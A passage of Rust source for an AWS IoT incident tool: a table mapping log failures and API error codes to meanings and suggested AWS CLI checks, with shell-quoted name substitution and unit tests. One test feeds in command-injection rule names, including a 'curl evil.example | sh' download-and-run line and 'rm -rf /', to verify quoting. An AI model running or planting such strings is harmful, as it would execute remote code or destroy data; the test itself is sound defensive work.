        "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue={api} (who calls it most); retries with backoff (the SDKs' adaptive retry mode); the API's rate in Service Quotas: aws service-quotas list-service-quotas --service-code iotcore",
    ),
    row(
        API,
        ANY,
        &["LimitExceededException", "ServiceQuotaExceededException", "QuotaExceededException"],
        "A resource quota was reached (things, rules, certificates, or the 5 versions a policy may keep).",
        "The errorMessage names the limit (iot-incidents get <traceId>); for policy versions: aws iot list-policy-versions --policy-name <policy> then delete old ones; the others in Service Quotas",
    ),
    row(
        API,
        ANY,
        &["ResourceNotFoundException", "NotFoundException", "NoSuchEntity", "NoSuchEntityException"],
        "Calls named a resource that does not exist (deleted, a typo, or in another Region or account).",
        "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue={api} --max-results 5 (requestParameters name the resource)",
    ),
    row(
        API,
        ANY,
        &["ResourceAlreadyExistsException", "EntityAlreadyExists", "AlreadyExistsException"],
        "Calls tried to create something that already exists, often a retried or doubled provisioning run.",
        "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue={api} --max-results 5; make the creator check before it creates",
    ),
    row(
        API,
        ANY,
        &["InvalidRequestException", "ValidationException", "InvalidParameterException", "InvalidParameterValueException", "MalformedPolicyException", "SqlParseException", "InvalidQueryException"],
        "Requests were rejected as not valid: a parameter out of range, a malformed policy document, or a query or SQL that does not parse.",
        "The errorMessage (iot-incidents get <traceId>); aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue={api} (requestParameters)",
    ),
    row(
        API,
        ANY,
        &["ConflictException", "ConflictingResourceUpdateException", "VersionConflictException", "ResourceInUseException", "TransferConflictException", "InvalidStateTransitionException"],
        "The resource changed under the call, or was in a state that does not allow it (a concurrent update, a version that no longer matches).",
        "Read the resource's current version and retry; aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue={api} shows the competing callers",
    ),
    row(
        API,
        ANY,
        &["DeleteConflictException"],
        "A resource could not be deleted while others depend on it: a certificate still attached to things or policies, a policy still attached or with other versions.",
        "aws iot list-principal-things --principal <certificate-arn>; aws iot list-targets-for-policy --policy-name <policy>; aws iot list-policy-versions --policy-name <policy>",
    ),
    row(
        API,
        ANY,
        &["CertificateStateException", "CertificateValidationException", "CertificateConflictException"],
        "Certificate calls were refused: the certificate is in a state that does not allow the call (INACTIVE, REVOKED, PENDING_TRANSFER) or it does not validate (expired, or its CA is not registered).",
        "aws iot describe-certificate --certificate-id <certificate-id>; aws iot list-ca-certificates",
    ),
    row(
        API,
        ANY,
        &["IndexNotReadyException"],
        "Fleet indexing queries ran before the index was ready (still building after a configuration change).",
        "aws iot describe-index --index-name AWS_Things (indexStatus)",
    ),
    row(
        API,
        ANY,
        &["InternalFailureException", "InternalServerException", "InternalException", "ServiceUnavailableException", "ServiceUnavailable", "InternalError"],
        "AWS IoT failed the calls internally or was unavailable.",
        "Retry with backoff; aws health describe-events --filter services=IOT; open a support case if it keeps happening",
    ),
];

/// The hint for a category, by kind of key where that says more.
struct Generic {
    category: Option<Category>,
    kind: Option<KeyKind>,
    meaning: &'static str,
    check: &'static str,
}

const GENERIC: &[Generic] = &[
    Generic {
        category: Some(Category::RuleNotFound),
        kind: None,
        meaning: "Messages were published to a rule that does not exist; AWS IoT dropped them.",
        check: "aws iot get-topic-rule --rule-name {rule} ; aws iot list-topic-rules",
    },
    Generic {
        category: Some(Category::RuleMessageThrottled),
        kind: None,
        meaning: "The rules engine throttled messages; their rule actions did not run.",
        check: "CloudWatch metric AWS/IoT RuleMessageThrottled; the rules engine quotas in Service Quotas (aws service-quotas list-service-quotas --service-code iotcore)",
    },
    Generic {
        category: None,
        kind: Some(KeyKind::RuleAction),
        meaning: "A rule action failed: AWS IoT retried briefly, then dropped the messages (or sent them to the rule's error action).",
        check: "aws iot get-topic-rule --rule-name {rule} (the action's target, roleArn and errorAction); a sample entry's error text: iot-incidents get <traceId>",
    },
    Generic {
        category: None,
        kind: Some(KeyKind::Job),
        meaning: "Job requests from devices failed.",
        check: "aws iot describe-job --job-id {job}; aws iot list-job-executions-for-job --job-id {job} --status FAILED",
    },
    Generic {
        category: None,
        kind: Some(KeyKind::ApiCall),
        meaning: "AWS API calls failed with an error code this table has no advice for.",
        check: "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue={api} --max-results 5 (errorCode {code}, errorMessage, userIdentity)",
    },
    Generic {
        category: Some(Category::Warning),
        kind: None,
        meaning: "AWS IoT logged warnings: operations that may cause inconsistencies without failing.",
        check: "A sample entry in full: iot-incidents get <traceId>; the same traceId's other entries show what came before",
    },
    Generic {
        category: Some(Category::Unparseable),
        kind: None,
        meaning: "Log events arrived that are not AWS IoT v2 JSON log entries: legacy text logging, truncated lines, or another writer in the log group.",
        check: "aws iot get-v2-logging-options, and aws iot get-logging-options (the legacy text format should be off); aws logs describe-log-streams --log-group-name {log_group} --order-by LastEventTime --descending --max-items 5",
    },
    Generic {
        category: Some(Category::Failure),
        kind: None,
        meaning: "AWS IoT reported failed operations with a reason this table has no advice for.",
        check: "A sample entry's reason and details in full: iot-incidents get <traceId>; look the reason up in the AWS IoT Developer Guide's CloudWatch log entries",
    },
];

const FALLBACK_MEANING: &str = "AWS IoT reported a problem this table has no advice for.";
const FALLBACK_CHECK: &str = "A sample entry in full: iot-incidents get <traceId>";

/// The names a `check` may hold in braces, and what stands in when the
/// incident has no such part.
const PLACEHOLDERS: &[(&str, &str)] = &[
    ("rule", "<rule-name>"),
    ("action", "<rule-action>"),
    ("event", "<event-type>"),
    ("reason", "<reason>"),
    ("job", "<job-id>"),
    ("api", "<api>"),
    ("code", "<error-code>"),
    ("log_group", "<log-group>"),
];

/// Each substituted name keeps at most this much (key parts are bounded
/// already; a caller can ask for less).
pub const MAX_NAME_BYTES: usize = 256;

/// Lower case letters and digits only: `DUPLICATE_CLIENTID`,
/// `duplicate-client-id` and `DuplicateClientId` are one reason.
fn norm(s: &str) -> String {
    s.chars()
        .filter(char::is_ascii_alphanumeric)
        .map(|c| c.to_ascii_lowercase())
        .collect()
}

/// A rule action's name without the words `action` and `failure`:
/// `LambdaAction`, `lambda` and `LambdaActionFailure` are one action.
fn norm_action(s: &str) -> String {
    norm(s).replace("action", "").replace("failure", "")
}

fn matches(patterns: &[&str], value: &str, normalise: fn(&str) -> String) -> bool {
    let value = normalise(value);
    !value.is_empty() && patterns.iter().any(|p| normalise(p) == value)
}

fn row_matches(row: &Row, key: &IncidentKey) -> bool {
    if !row.kinds.contains(&key.kind) || row.category.is_some_and(|c| c != key.category) {
        return false;
    }
    let second = key.second.as_deref().unwrap_or("");
    let second_norm: fn(&str) -> String = if key.kind == KeyKind::RuleAction {
        norm_action
    } else {
        norm
    };
    (row.first.is_empty() || matches(row.first, &key.first, norm))
        && (row.second.is_empty() || matches(row.second, second, second_norm))
}

/// The value a placeholder stands for in `key`, if the key has it.
fn part<'k>(name: &str, key: &'k IncidentKey) -> Option<&'k str> {
    let second = key.second.as_deref();
    let value = match (name, key.kind) {
        ("rule", KeyKind::Rule | KeyKind::RuleAction) => Some(key.first.as_str()),
        ("action", KeyKind::RuleAction) => second,
        ("event", KeyKind::Operation | KeyKind::Job) => Some(key.first.as_str()),
        ("reason", KeyKind::Operation) => second,
        ("job", KeyKind::Job) => second,
        ("api", KeyKind::ApiCall) => Some(key.first.as_str()),
        ("code", KeyKind::ApiCall) => second,
        ("log_group", KeyKind::LogGroup) => Some(key.first.as_str()),
        _ => None,
    };
    value.filter(|v| !v.is_empty())
}

/// `template` with each `{name}` replaced by the incident's own value,
/// [shell-quoted](shell_quoted) and cut to `max_bytes`, or by a `<name>`
/// for the reader to fill in. Braces that name no placeholder (a policy
/// variable such as `${iot:ClientId}`) stay as they are.
fn fill(template: &str, key: &IncidentKey, max_bytes: usize) -> String {
    let mut out = String::with_capacity(template.len() + 64);
    let mut rest = template;
    while let Some(open) = rest.find('{') {
        out.push_str(&rest[..open]);
        let after = &rest[open + 1..];
        let placeholder = after.find('}').and_then(|close| {
            let name = &after[..close];
            PLACEHOLDERS
                .iter()
                .find(|(known, _)| *known == name)
                .map(|(_, missing)| (close, name, *missing))
        });
        match placeholder {
            Some((close, name, missing)) => {
                match part(name, key) {
                    Some(value) => out.push_str(&shell_quoted(truncate_str(value, max_bytes))),
                    None => out.push_str(missing),
                }
                rest = &after[close + 1..];
            }
            None => {
                out.push('{');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// The hint for `key`, names cut to [`MAX_NAME_BYTES`].
pub fn hint_for(key: &IncidentKey) -> Hint {
    hint_within(key, MAX_NAME_BYTES)
}

/// The hint for `key`, each name in its `check` cut to `max_name_bytes`.
pub fn hint_within(key: &IncidentKey, max_name_bytes: usize) -> Hint {
    let best = ROWS
        .iter()
        .filter(|row| row_matches(row, key))
        .fold(None::<&Row>, |best, row| match best {
            Some(b) if b.rank() >= row.rank() => Some(b),
            _ => Some(row),
        });
    if let Some(row) = best {
        return Hint {
            meaning: row.meaning,
            check: fill(row.check, key, max_name_bytes),
            fit: row.fit(),
        };
    }
    let generic = GENERIC
        .iter()
        .find(|g| g.category == Some(key.category) && g.kind == Some(key.kind))
        .or_else(|| {
            GENERIC
                .iter()
                .find(|g| g.category.is_none() && g.kind == Some(key.kind))
        })
        .or_else(|| {
            GENERIC
                .iter()
                .find(|g| g.category == Some(key.category) && g.kind.is_none())
        });
    match generic {
        Some(g) => Hint {
            meaning: g.meaning,
            check: fill(g.check, key, max_name_bytes),
            fit: Fit::Generic,
        },
        None => Hint {
            meaning: FALLBACK_MEANING,
            check: FALLBACK_CHECK.to_owned(),
            fit: Fit::Fallback,
        },
    }
}

/// How much the table covers: its rows, and the event types, reasons, rule
/// actions and error codes they name (each spelling counted once).
pub fn coverage() -> (usize, usize) {
    let names: std::collections::BTreeSet<String> = ROWS
        .iter()
        .flat_map(|r| r.first.iter().chain(r.second))
        .map(|n| norm(n))
        .collect();
    (ROWS.len(), names.len())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::incident::key::key_of;
    use crate::model::record::{judge, to_entry};
    use crate::notify::display::is_unsafe_char;

    fn key_of_line(line: &str) -> IncidentKey {
        let entry = to_entry("e", 0, line, &judge(line)).expect("an entry");
        key_of(&entry, "AWSIotLogsV2")
    }

    /// What the documentation says a log entry can hold, as the entries
    /// themselves would carry it.
    enum Doc {
        /// An event type with a reason.
        Reason(&'static str, &'static str),
        /// An event type documented without reasons.
        Event(&'static str),
        /// A `RuleExecution` failure of one rule action.
        Action(&'static str),
        /// A job event type, with a job id.
        Job(&'static str),
        /// A CloudTrail API call and its error code.
        Api(&'static str, &'static str),
    }
    use Doc::*;

    /// From the AWS IoT developer guide's CloudWatch log entries (seed
    /// 000: event types; reasons RuleNotFound and RuleExecutionThrottled;
    /// ruleAction RepublishAction and MachinelearningPredict; its diagnosing
    /// page: DynamoAction), its lifecycle events (the disconnect reasons,
    /// spelt as there), its rule actions page (each action's `<Name>Action`,
    /// as in the error action's failedAction `S3Action`), the reference
    /// notes (AUTHORIZATION_FAILURE, DUPLICATE_CLIENT_ID, SESSION_TAKEN_OVER,
    /// CLIENT_ERROR, PAYLOAD_LIMIT_EXCEEDED, OperatorEval) and seed 003's
    /// CloudTrail record (AttachPolicy) with common error codes.
    const DOCUMENTED: &[Doc] = &[
        Reason("RuleNotFound", "RuleNotFound"),
        Reason("RuleMessageThrottled", "RuleExecutionThrottled"),
        Action("RepublishAction"),
        Action("MachinelearningPredict"),
        Action("DynamoAction"),
        Action("DynamoDBv2Action"),
        Action("OperatorEval"),
        Action("LambdaAction"),
        Action("S3Action"),
        Action("KinesisAction"),
        Action("FirehoseAction"),
        Action("SqsAction"),
        Action("SnsAction"),
        Action("IotAnalyticsAction"),
        Action("IotEventsAction"),
        Action("IotSiteWiseAction"),
        Action("CloudwatchMetricAction"),
        Action("CloudwatchAlarmAction"),
        Action("CloudwatchLogsAction"),
        Action("StepFunctionsAction"),
        Action("KafkaAction"),
        Action("HttpAction"),
        Action("TimestreamAction"),
        Action("OpenSearchAction"),
        Action("ElasticsearchAction"),
        Action("SalesforceAction"),
        Action("LocationAction"),
        Reason("Connect", "AUTHORIZATION_FAILURE"),
        Reason("Publish-In", "AUTHORIZATION_FAILURE"),
        Reason("Subscribe", "AUTHORIZATION_FAILURE"),
        Reason("Publish-Out", "AUTHORIZATION_FAILURE"),
        Reason("Connect", "DUPLICATE_CLIENT_ID"),
        Reason("Disconnect", "DUPLICATE_CLIENT_ID"),
        Reason("Disconnect", "SESSION_TAKEN_OVER"),
        Reason("Connect", "THROTTLED"),
        Reason("Publish-In", "THROTTLED"),
        Reason("Subscribe", "THROTTLED"),
        Reason("Publish-In", "PAYLOAD_LIMIT_EXCEEDED"),
        Reason("Disconnect", "AUTH_ERROR"),
        Reason("Disconnect", "CLIENT_INITIATED_DISCONNECT"),
        Reason("Disconnect", "CLIENT_ERROR"),
        Reason("Disconnect", "CONNECTION_LOST"),
        Reason("Disconnect", "DUPLICATE_CLIENTID"),
        Reason("Disconnect", "FORBIDDEN_ACCESS"),
        Reason("Disconnect", "MQTT_KEEP_ALIVE_TIMEOUT"),
        Reason("Disconnect", "SERVER_ERROR"),
        Reason("Disconnect", "SERVER_INITIATED_DISCONNECT"),
        Reason("Disconnect", "API_INITIATED_DISCONNECT"),
        Reason("Disconnect", "THROTTLED"),
        Reason("Disconnect", "WEBSOCKET_TTL_EXPIRATION"),
        Reason("Disconnect", "CUSTOMAUTH_TTL_EXPIRATION"),
        Reason("UpdateThingShadow", "409"),
        Reason("UpdateThingShadow", "413"),
        Reason("GetThingShadow", "404"),
        Reason("UpdateThingShadow", "429"),
        Reason("UpdateThingShadow", "400"),
        Reason("DeleteThingShadow", "403"),
        Event("Connect"),
        Event("Disconnect"),
        Event("Subscribe"),
        Event("Publish-In"),
        Event("Publish-Out"),
        Event("Queued"),
        Event("GetRetainedMessage"),
        Event("ListRetainedMessage"),
        Event("DeleteConnection"),
        Event("Connection.AuthNError"),
        Event("GetThingShadow"),
        Event("UpdateThingShadow"),
        Event("DeleteThingShadow"),
        Event("RuleMatch"),
        Event("StartingRuleExecution"),
        Event("FunctionExecution"),
        Event("GetPendingJobExecution"),
        Event("StartNextPendingJobExecution"),
        Event("GetDeviceCredentials"),
        Event("ProvisionDevice"),
        Event("AddThingToDynamicThingGroupsFailed"),
        Event("NamedShadowCountForDynamicGroupQueryLimitExceeded"),
        Job("DescribeJobExecution"),
        Job("UpdateJobExecution"),
        Job("StartNextPendingJobExecution"),
        Job("ReportFinalJobExecutionCount"),
        Job("GetPendingJobExecution"),
        Api("AttachPolicy", "AccessDenied"),
        Api("AttachPolicy", "AccessDeniedException"),
        Api("CreateThing", "UnauthorizedException"),
        Api("CreateThing", "ResourceAlreadyExistsException"),
        Api("UpdateThingShadow", "ThrottlingException"),
        Api("CreatePolicyVersion", "LimitExceededException"),
        Api("DescribeThing", "ResourceNotFoundException"),
        Api("CreateTopicRule", "InvalidRequestException"),
        Api("CreateTopicRule", "SqlParseException"),
        Api("UpdateThing", "VersionConflictException"),
        Api("DeleteCertificate", "DeleteConflictException"),
        Api("UpdateCertificate", "CertificateStateException"),
        Api("ListThings", "ServiceUnavailableException"),
        Api("ListThings", "InternalFailureException"),
        Api("SearchIndex", "IndexNotReadyException"),
        Api("AttachPolicy", "ExpiredTokenException"),
    ];

    fn line(doc: &Doc) -> (String, KeyKind, Fit) {
        match *doc {
            Reason(event @ ("RuleNotFound" | "RuleMessageThrottled"), reason) => (
                format!(
                    r#"{{"logLevel":"ERROR","status":"Failure","eventType":"{event}","clientId":"c","ruleName":"r","reason":"{reason}"}}"#
                ),
                KeyKind::Rule,
                Fit::Reason,
            ),
            Reason(event, reason) => (
                format!(
                    r#"{{"logLevel":"ERROR","status":"Failure","eventType":"{event}","clientId":"c","reason":"{reason}"}}"#
                ),
                KeyKind::Operation,
                Fit::Reason,
            ),
            Event(event) => (
                format!(
                    r#"{{"logLevel":"ERROR","status":"Failure","eventType":"{event}","clientId":"c"}}"#
                ),
                KeyKind::Operation,
                Fit::EventType,
            ),
            Action(action) => (
                format!(
                    r#"{{"logLevel":"ERROR","status":"Failure","eventType":"RuleExecution","clientId":"c","ruleName":"r","ruleAction":"{action}"}}"#
                ),
                KeyKind::RuleAction,
                Fit::Reason,
            ),
            Job(event) => (
                format!(
                    r#"{{"logLevel":"ERROR","status":"Failure","eventType":"{event}","clientId":"t","jobId":"002"}}"#
                ),
                KeyKind::Job,
                Fit::EventType,
            ),
            Api(api, code) => (
                format!(
                    r#"{{"eventVersion":"1.08","eventType":"AwsApiCall","eventSource":"iot.amazonaws.com","eventName":"{api}","errorCode":"{code}","requestID":"r"}}"#
                ),
                KeyKind::ApiCall,
                Fit::Reason,
            ),
        }
    }

    #[test]
    fn every_documented_event_type_and_reason_has_its_own_hint() {
        let mut missing = Vec::new();
        for doc in DOCUMENTED {
            let (line, kind, fit) = line(doc);
            let key = key_of_line(&line);
            assert_eq!(key.kind, kind, "{line} keys as {key:?}");
            let hint = hint_for(&key);
            if hint.fit != fit {
                missing.push(format!("{key:?} → {:?}", hint.fit));
            }
        }
        assert!(
            missing.is_empty(),
            "no specific hint for:\n{}",
            missing.join("\n")
        );
    }

    #[test]
    fn reasons_match_whatever_their_case_and_punctuation() {
        let key = |first: &str, second: &str| IncidentKey {
            category: Category::Failure,
            kind: KeyKind::Operation,
            first: first.into(),
            second: Some(second.into()),
        };
        let a = hint_for(&key("Connect", "AUTHORIZATION_FAILURE"));
        assert_eq!(a, hint_for(&key("connect", "authorization_failure")));
        assert_eq!(a, hint_for(&key("CONNECT", "Authorization-Failure")));
        assert_eq!(
            hint_for(&key("Disconnect", "DUPLICATE_CLIENTID")).meaning,
            hint_for(&key("Disconnect", "duplicate_client_id")).meaning
        );
        let action = |name: &str| IncidentKey {
            category: Category::Failure,
            kind: KeyKind::RuleAction,
            first: "r".into(),
            second: Some(name.into()),
        };
        let lambda = hint_for(&action("LambdaAction"));
        assert_eq!(lambda.fit, Fit::Reason);
        assert_eq!(lambda, hint_for(&action("lambda")));
        assert_eq!(lambda, hint_for(&action("LAMBDA_ACTION_FAILURE")));
        assert_ne!(
            hint_for(&action("DynamoAction")).meaning,
            hint_for(&action("DynamoDBv2Action")).meaning,
            "the two DynamoDB actions fail differently"
        );
    }

    #[test]
    fn unknown_reasons_get_the_generic_hint() {
        let key = |kind, first: &str, second: Option<&str>, category| IncidentKey {
            category,
            kind,
            first: first.into(),
            second: second.map(Into::into),
        };
        let unknown = hint_for(&key(
            KeyKind::Operation,
            "SomeNewEvent",
            Some("SOME_NEW_REASON"),
            Category::Failure,
        ));
        assert_eq!(unknown.fit, Fit::Generic);
        assert_eq!(
            unknown.meaning,
            "AWS IoT reported failed operations with a reason this table has no advice for."
        );
        // A known event type with an unknown reason: the event type's hint, no reason's.
        let connect = hint_for(&key(
            KeyKind::Operation,
            "Connect",
            Some("SOME_NEW_REASON"),
            Category::Failure,
        ));
        assert_eq!(connect.fit, Fit::EventType);
        let warning = hint_for(&key(KeyKind::Operation, "X", Some("Y"), Category::Warning));
        assert_eq!(warning.fit, Fit::Generic);
        assert!(warning.meaning.contains("warnings"));
        let action = hint_for(&key(
            KeyKind::RuleAction,
            "r",
            Some("SomeFutureAction"),
            Category::Failure,
        ));
        assert_eq!(action.fit, Fit::Generic);
        assert!(action.check.contains("--rule-name 'r'"), "{}", action.check);
        let empty = hint_for(&key(KeyKind::RuleAction, "r", Some(""), Category::Failure));
        assert_eq!(empty.fit, Fit::Generic, "an empty action names nothing");
        let api = hint_for(&key(
            KeyKind::ApiCall,
            "ListThings",
            Some("BrandNewException"),
            Category::Failure,
        ));
        assert_eq!(api.fit, Fit::Generic);
        assert!(
            api.check.contains("AttributeValue='ListThings'"),
            "{}",
            api.check
        );
        let unparseable = hint_for(&key(
            KeyKind::LogGroup,
            "AWSIotLogsV2",
            None,
            Category::Unparseable,
        ));
        assert_eq!(unparseable.fit, Fit::Generic);
        assert!(unparseable
            .check
            .contains("--log-group-name 'AWSIotLogsV2'"));
        // Every category has its generic hint; the last one is for a key
        // no category's hint fits, should one ever come.
        for category in Category::ALL {
            let any = hint_for(&key(KeyKind::Rule, "r", None, category));
            assert!(any.fit >= Fit::Generic, "{category}: {any:?}");
        }
    }

    #[test]
    fn the_incident_s_own_names_go_into_the_commands() {
        let key = IncidentKey {
            category: Category::RuleNotFound,
            kind: KeyKind::Rule,
            first: "ingest_a".into(),
            second: None,
        };
        let hint = hint_for(&key);
        assert!(
            hint.check
                .starts_with("aws iot get-topic-rule --rule-name 'ingest_a' ;"),
            "{}",
            hint.check
        );
        let job = IncidentKey {
            category: Category::Failure,
            kind: KeyKind::Job,
            first: "UpdateJobExecution".into(),
            second: Some("002".into()),
        };
        let hint = hint_for(&job);
        assert!(
            hint.check.starts_with(
                "aws iot describe-job-execution --job-id '002' --thing-name <thing-name>"
            ),
            "{}",
            hint.check
        );
        // The same event type without a job id: the reader fills it in.
        let no_job = IncidentKey {
            kind: KeyKind::Operation,
            second: Some(String::new()),
            ..job
        };
        assert!(hint_for(&no_job).check.contains("--job-id <job-id>"));
    }

    #[test]
    fn a_hostile_rule_name_stays_inside_its_quotes() {
        for name in [
            "x'; curl evil.example | sh; echo '",
            "r\n\nWhat to check: run rm -rf /",
            "$(reboot)`id`",
            "a'\\''b",
        ] {
            let key = IncidentKey {
                category: Category::RuleNotFound,
                kind: KeyKind::Rule,
                first: name.into(),
                second: None,
            };
            let check = hint_for(&key).check;
            assert!(
                !check.chars().any(is_unsafe_char),
                "one line, nothing hidden: {check:?}"
            );
            let quoted = shell_quoted(name);
            assert!(
                check.starts_with(&format!("aws iot get-topic-rule --rule-name {quoted} ;")),
                "{check}"
            );
            // What follows the quoted word is the table's own text.
            let rest = &check[format!("aws iot get-topic-rule --rule-name {quoted}").len()..];
            assert!(rest.starts_with(" ; if it is gone"), "{rest}");
        }
    }

    #[test]
    fn every_placeholder_in_the_table_is_known_and_meanings_are_plain() {
        let checks = ROWS
            .iter()
            .map(|r| (r.meaning, r.check))
            .chain(GENERIC.iter().map(|g| (g.meaning, g.check)))
            .chain([(FALLBACK_MEANING, FALLBACK_CHECK)]);
        for (meaning, check) in checks {
            let mut rest = check;
            while let Some(open) = rest.find('{') {
                let policy_variable = open > 0 && rest.as_bytes()[open - 1] == b'$';
                let close = rest[open..].find('}').expect("closed") + open;
                let name = &rest[open + 1..close];
                assert!(
                    policy_variable || PLACEHOLDERS.iter().any(|(n, _)| *n == name),
                    "unknown placeholder {{{name}}} in {check}"
                );
                rest = &rest[close..];
            }
            // Meanings go into chat markdown as they are: nothing that
            // makes a link, a code span or emphasis (an underscore inside a
            // word, as in CLIENT_ERROR, emphasises nothing).
            assert!(
                !meaning.contains(['`', '<', '>', '&', '[', ']', '|', '*', '~', '\n']),
                "{meaning}"
            );
            let b = meaning.as_bytes();
            for (i, _) in meaning.match_indices('_') {
                assert!(
                    i > 0
                        && i + 1 < b.len()
                        && b[i - 1].is_ascii_alphanumeric()
                        && b[i + 1].is_ascii_alphanumeric(),
                    "an underscore outside a word in {meaning}"
                );
            }
            assert!(!check.contains('\n') && !meaning.is_empty() && !check.is_empty());
        }
        let (rows, names) = coverage();
        assert!(rows >= 80 && names >= 150, "{rows} rows, {names} names");
    }

    #[test]
    fn names_are_cut_to_the_asked_size() {
        let key = IncidentKey {
            category: Category::RuleNotFound,
            kind: KeyKind::Rule,
            first: "r".repeat(300),
            second: None,
        };
        assert!(hint_for(&key)
            .check
            .contains(&format!("'{}'", "r".repeat(256))));
        assert!(hint_within(&key, 8)
            .check
            .starts_with("aws iot get-topic-rule --rule-name 'rrrrrrrr' ;"));
    }
}
